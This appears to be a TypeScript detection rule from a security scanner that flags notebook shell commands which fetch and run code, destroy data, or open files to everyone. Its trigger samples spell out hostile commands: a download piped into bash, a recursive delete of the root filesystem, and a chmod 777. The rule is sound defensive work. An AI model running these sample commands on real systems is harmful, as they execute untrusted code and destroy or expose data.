// The rule for commands that are an attack by themselves.

import { defineRule } from '../../define-rule.ts';

export const runsHarmfulCommand = defineRule({
  id: 'shell/runs-harmful-command',
  title: 'A command fetches and runs code, or destroys',
  category: 'unsafe-code',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [78, 506, 494],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011.000', 'AML.T0050'],
  tags: ['shell', 'code-execution'],
  message: '`{command}` {effect}',
  why: 'Piping a download into a shell, deleting what is not its own, opening a port with a shell behind it, opening files to everyone: the command is an attack by itself, cannot be told from one, or makes room for one.',
  fix: ['Do not run it', 'Look for what it has already done where it was run'],
  falsePositives: 'Installers that are fetched from their own makers on purpose.',
  samples: {
    fires: [
      'notebook: !curl -s http://192.0.2.1/a.sh | bash',
      'notebook: !rm -rf / --no-preserve-root',
      'notebook: %%bash\nchmod -R 777 /data',
    ],
    silent: [
      'notebook: !ls -la',
      'notebook: !curl -O https://host.invalid/data.csv',
      'notebook: !rm -rf sample_data',
    ],
  },
});
